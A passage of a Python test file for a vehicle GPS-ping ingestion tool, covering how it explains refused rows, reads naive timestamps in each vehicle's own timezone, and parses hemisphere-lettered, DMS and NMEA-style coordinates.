    assert main(["ingest", str(tmp_path / "p.db"), str(f)]) == 0
    out = capsys.readouterr().out
    assert "lat_lon_out_of_range: 2 — most of the file" in out and says in out
    assert "rescale" not in out


def test_a_file_refused_mostly_as_jumps_or_repeats_is_told_why(tmp_path, capsys):
    """A column of fleet names taken for the vehicle id (two cars, Berlin and Munich, under
    one id) refuses nearly every row as a jump; the same file twice over refuses half of it
    as repeats. Neither said what to do: a jump now names the vehicle id column, a repeat
    that nothing is lost."""
    rows = "".join(f"acme,2026-03-02T10:{i:02d}:00Z,52.52,13.40\n"
                   f"acme,2026-03-02T10:{i:02d}:30Z,48.14,11.58\n" for i in range(20))
    mixed = tmp_path / "mixed.csv"
    mixed.write_text("fleet,timestamp,lat,lon\n" + rows)
    assert main(["ingest", str(tmp_path / "a.db"), str(mixed), "--map", "vehicle_id=fleet"]) == 0
    out = capsys.readouterr().out
    assert "impossible_jump: 38 — most of the file" in out
    assert "several vehicles share one id (is --map vehicle_id the right column?)" in out
    twice = tmp_path / "twice.csv"
    twice.write_text(HEADER + "".join(f"v1,2026-03-02T10:{i:02d}:00Z,52.52,13.4{i % 10}\n"
                                      for i in range(20)) * 2)
    assert main(["ingest", str(tmp_path / "b.db"), str(twice)]) == 0
    out = capsys.readouterr().out
    assert "duplicate_ping: 20 — most of the file" in out
    assert "the ping kept once" in out and "nothing is lost" in out


def test_naive_local_times_of_a_fleet_across_zones_read_in_each_vehicles_zone(tmp_path, capsys):
    """An exporter writing each vehicle's local time without an offset, for a fleet in Chicago
    and Berlin: one --tz cannot be right for both. --tz vehicle reads each vehicle's stamps in
    its metadata timezone; stamps that state an offset keep it."""
    vehicles = tmp_path / "vehicles.csv"
    vehicles.write_text("vehicle_id,timezone\nchi,America/Chicago\nber,Europe/Berlin\n")
    pings = tmp_path / "pings.csv"
    pings.write_text(HEADER + "chi,2026-03-07 08:00:00,41.8,-87.6\n"   # CST, UTC-6
                              "chi,2026-03-09 08:00:00,41.8,-87.6\n"   # CDT since 03-08
                              "ber,2026-03-09 08:00:00,52.5,13.4\n"    # CET, UTC+1
                              "ber,2026-03-09T10:00:00+02:00,52.5,13.4\n")  # stated: kept
    project = tmp_path / "p.db"
    assert main(["ingest", str(project), str(pings)]) == 1
    assert "--tz vehicle for each vehicle's own timezone" in capsys.readouterr().err
    assert main(["ingest", str(project), str(vehicles), str(pings), "--tz", "vehicle"]) == 0
    utc = lambda text: int(datetime.fromisoformat(text).timestamp())  # noqa: E731
    with sqlite3.connect(project) as conn:
        got = conn.execute("SELECT vehicle_id, ts, utc_offset_min FROM pings "
                           "ORDER BY vehicle_id, ts").fetchall()
    assert got == [("ber", utc("2026-03-09T08:00:00+01:00"), 60),
                   ("ber", utc("2026-03-09T10:00:00+02:00"), 120),
                   ("chi", utc("2026-03-07T08:00:00-06:00"), -360),
                   ("chi", utc("2026-03-09T08:00:00-05:00"), -300)]
    # a vehicle without a timezone in its metadata is named
    other = tmp_path / "other.csv"
    other.write_text(HEADER + "nyc,2026-03-09 08:00:00,40.7,-74.0\n")
    assert main(["ingest", str(project), str(other), "--tz", "vehicle"]) == 1
    assert "vehicle nyc has no timezone in its metadata, so --tz vehicle" in \
        capsys.readouterr().err


def test_tz_vehicle_with_ignore_offset_rereads_every_stamp(tmp_path):
    """--ignore-offset distrusts every stated offset; with --tz vehicle the naive stamps of the
    same file are read in the vehicle's zone too."""
    vehicles = tmp_path / "vehicles.csv"
    vehicles.write_text("vehicle_id,timezone\nber,Europe/Berlin\n")
    pings = tmp_path / "pings.csv"
    pings.write_text(HEADER + "ber,2026-03-09 08:00:00,52.5,13.4\n"
                              "ber,2026-03-09T09:00:00Z,52.5,13.41\n")  # 'Z' that is Berlin time
    project = tmp_path / "p.db"
    assert main(["ingest", str(project), str(vehicles)]) == 0
    assert main(["ingest", str(project), str(pings), "--tz", "vehicle", "--ignore-offset"]) == 0
    with sqlite3.connect(project) as conn:
        got = conn.execute("SELECT ts, utc_offset_min FROM pings ORDER BY ts").fetchall()
    utc = lambda text: int(datetime.fromisoformat(text).timestamp())  # noqa: E731
    assert got == [(utc("2026-03-09T08:00:00+01:00"), 60), (utc("2026-03-09T09:00:00+01:00"), 60)]


def test_unsigned_coordinates_take_their_hemisphere_from_a_letter_or_a_column(tmp_path, capsys):
    """Trackers and NMEA-style exports write unsigned degrees with the hemisphere beside them
    ('41.76 N', 'W87.69', '151.21°E'), in degrees, minutes and seconds (41°45'36"N) or NMEA's
    degrees and minutes (4145.6 N), or with the hemisphere in a column of its own (N/S, E/W).
    Read as plain numbers, a Chicago fleet parked in Xinjiang (and a lettered value was
    refused). A letter of the other axis, a letter and a minus, 60 minutes or more, or no
    letter in a hemisphere column refuses the row; 'O' (east in German, west in Spanish) is
    never guessed."""
    lettered = tmp_path / "lettered.csv"
    lettered.write_text(
        "vehicle_id,timestamp,lat,lon\n"
        "a,2025-03-01T08:00:00Z,41.76 N,87.69 W\n"
        "a,2025-03-01T08:01:00Z,N41.77,W87.70\n"
        "b,2025-03-01T08:00:00Z,33.87°S,151.21°E\n"
        "b,2025-03-01T08:01:00Z,-33.88,151.22\n"
        "c,2025-03-01T08:00:00Z,41.76 E,87.69 W\n"
        "c,2025-03-01T08:01:00Z,41.76 N,87.69 O\n"
        "c,2025-03-01T08:02:00Z,41.76 N,-87.69 W\n"
        "c,2025-03-01T08:03:00Z,41°61' N,87.69 W\n"          # 61 minutes
        "d,2025-03-01T08:00:00Z,\"41°45'36\"\"N\",\"87°41'24\"\"W\"\n"
        "d,2025-03-01T08:01:00Z,41 45.6 N,-87°41.4'\n"
        "d,2025-03-01T08:02:00Z,41.76°,087°41′24″W\n", encoding="utf-8")
    p = tmp_path / "p.db"
    assert main(["ingest", str(p), str(lettered), "--json"]) == 0
    out = json.loads(capsys.readouterr().out)
    assert out["accepted"] == 7 and out["reasons"] == {"missing_lat_lon": 4}
    got = rows(p, "SELECT vehicle_id, lat, lon FROM pings ORDER BY vehicle_id, ts")
    assert got[:4] == [("a", 41.76, -87.69), ("a", 41.77, -87.70), ("b", -33.87, 151.21),
                       ("b", -33.88, 151.22)]
    assert [v for v, _, _ in got[4:]] == ["d"] * 3
    assert np.allclose([(lat, lon) for _, lat, lon in got[4:]], [(41.76, -87.69)] * 3)

    columns = tmp_path / "nmea.csv"
    columns.write_text(
        "vehicle_id,timestamp,lat,N/S,lon,E/W\n"
        "a,2025-03-02T08:00:00Z,41.76,N,87.69,W\n"
        "a,2025-03-02T08:01:00Z,41.77,n,87.70,w\n"
        "b,2025-03-02T08:00:00Z,33.87,S,151.21,E\n"
        "b,2025-03-02T08:01:00Z,-33.88,S,151.22,E\n"      # the column decides, not the sign
        "c,2025-03-02T08:00:00Z,41.76,,87.69,W\n"
        "c,2025-03-02T08:01:00Z,41.76,N,87.69,O\n", encoding="utf-8")
    q = tmp_path / "q.db"
    assert main(["ingest", str(q), str(columns), "--json"]) == 0
    out = json.loads(capsys.readouterr().out)
    assert out["accepted"] == 4 and out["reasons"] == {"missing_lat_lon": 2}
    assert rows(q, "SELECT vehicle_id, lat, lon FROM pings ORDER BY vehicle_id, ts") == [
        ("a", 41.76, -87.69), ("a", 41.77, -87.70), ("b", -33.87, 151.21),
        ("b", -33.88, 151.22)]
    # NMEA's degrees and minutes (ddmm.mmmm, dddmm.mmmm) beside their hemisphere, in a column
    # or in the value; 60 minutes or more refuses the row
    nmea = tmp_path / "gprmc.csv"
    nmea.write_text(
        "vehicle_id,timestamp,lat,ns,lon,ew\n"
        "a,2025-03-03T08:00:00Z,4145.6000,N,08741.4000,W\n"
        "b,2025-03-03T08:00:00Z,3352.2,S,15112.6,E\n"
        "c,2025-03-03T08:00:00Z,4175.0,N,08741.4,W\n", encoding="utf-8")
    n = tmp_path / "n.db"
    assert main(["ingest", str(n), str(nmea), "--json"]) == 0
    assert json.loads(capsys.readouterr().out)["reasons"] == {"missing_lat_lon": 1}
    assert np.allclose(rows(n, "SELECT lat, lon FROM pings ORDER BY vehicle_id"),
                       [(41.76, -87.69), (-33.87, 151.21)])
    # a Parquet float column has lost the zero padding (8741.4): beyond ±180 it is no degrees
    import pandas as pd
    pd.DataFrame({"vehicle_id": ["a"], "timestamp": ["2025-03-03T08:00:00Z"], "lat": [4145.6],
                  "ns": ["N"], "lon": [8741.4], "ew": ["W"]}).to_parquet(tmp_path / "f.parquet")
    f = tmp_path / "f.db"
    assert main(["ingest", str(f), str(tmp_path / "f.parquet")]) == 0
    assert np.allclose(rows(f, "SELECT lat, lon FROM pings"), [(41.76, -87.69)])
    inline = tmp_path / "inline.csv"
    inline.write_text("vehicle_id,timestamp,lat,lon\n"
                      "a,2025-03-03T08:00:00Z,4145.6000N,W08741.4000\n", encoding="utf-8")
    m = tmp_path / "m.db"
    assert main(["ingest", str(m), str(inline)]) == 0
    assert np.allclose(rows(m, "SELECT lat, lon FROM pings"), [(41.76, -87.69)])
    # a header no alias knows: --map names it
    columns.write_text(columns.read_text().replace("N/S", "Hemi1").replace("E/W", "Hemi2"))
    r = tmp_path / "r.db"
    assert main(["ingest", str(r), str(columns), "--map", "lat_hemisphere=Hemi1",
                 "--map", "lon_hemisphere=Hemi2"]) == 0
    assert rows(r, "SELECT MIN(lon) FROM pings WHERE vehicle_id = 'a'") == [(-87.70,)]
